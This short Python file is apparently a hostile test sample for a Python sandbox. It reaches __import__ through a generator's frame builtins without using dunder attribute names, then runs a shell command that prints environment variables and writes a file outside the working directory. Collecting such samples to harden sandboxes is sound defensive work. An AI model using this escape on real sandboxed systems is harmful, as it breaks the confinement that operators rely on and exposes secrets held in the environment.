"""Reach builtins through a generator's frame without a single dunder attribute."""

gen = (x for x in [1])
imp = gen.gi_frame.f_builtins["__import__"]  # HOSTILE
imp("os").system("env; echo pwned > ../escaped.txt")
